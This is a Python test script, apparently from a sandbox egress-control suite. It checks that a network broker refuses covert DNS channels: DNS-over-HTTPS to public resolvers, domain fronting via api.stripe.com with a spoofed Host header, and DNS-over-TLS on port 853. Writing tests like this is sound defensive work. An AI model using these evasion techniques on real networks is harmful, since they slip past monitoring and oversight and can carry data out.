# attack: DNS over HTTPS or TLS makes a question look like any other request, sent to a public resolver or to the API's own host
# expect: broker
# validator: refused
import base64
import socket
import ssl
import struct

import requests

LABELS = b"".join(bytes((len(part),)) + part for part in (b"secret", b"example", b"com"))
QUESTION = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + LABELS + b"\0" + struct.pack(">HH", 1, 1)
HEADERS = {"Accept": "application/dns-message", "Content-Type": "application/dns-message"}
ENCODED = base64.urlsafe_b64encode(QUESTION).rstrip(b"=").decode()

for url in ("https://dns.google/dns-query", "https://1.1.1.1/dns-query", "https://8.8.8.8/resolve?name=secret.example.com"):
    try:
        answer = requests.post(url, data=QUESTION, headers=HEADERS, timeout=1)
        print("ESCAPED: a resolver answered", answer.status_code, flush=True)
    except requests.RequestException as error:
        print(url, type(error).__name__)

# Through the relay with another Host, as domain fronting does it.
for host in ("dns.google", "cloudflare-dns.com"):
    try:
        answer = requests.get(f"https://api.stripe.com/dns-query?dns={ENCODED}", headers={**HEADERS, "Host": host}, timeout=1)
        if answer.ok:
            print("ESCAPED: the relay carried a question to", host, flush=True)
        print(answer.status_code, answer.text[:120])
    except requests.RequestException as error:
        print(host, type(error).__name__)

# DNS over TLS has its own port.
for address in ("dns.google", "api.stripe.com"):
    try:
        plain = socket.create_connection((address, 853), 0.5)
        with ssl.create_default_context().wrap_socket(plain, server_hostname=address) as tls:
            tls.sendall(struct.pack(">H", len(QUESTION)) + QUESTION)
            print("ESCAPED: DNS over TLS at", address, tls.recv(64), flush=True)
    except OSError as error:
        print(address, error)
